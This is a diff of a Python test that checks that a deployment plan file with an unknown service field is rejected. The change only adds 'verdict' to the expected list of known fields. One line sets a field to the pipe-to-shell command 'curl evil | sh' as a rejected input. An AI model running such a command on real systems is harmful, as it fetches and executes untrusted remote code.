@@ -107,7 +107,7 @@ def test_an_unknown_field_and_a_repeated_service_are_usage_errors(planned, docke
     edit(planned, lambda by: by["Base.LogServer"].update(run="curl evil | sh"))
     assert refused(planned, docker_client, 2) == (
         "error: p.json: services[1].run: unknown field (known: id, changed, reasons, steps, image, wave, dependsOn, "
-        "fingerprint, chart, replace)")
+        "fingerprint, chart, replace, verdict)")
     data = planned.plan
     data["services"].append(dict(data["services"][0]))
     (planned.root / "p.json").write_text(json.dumps(data))
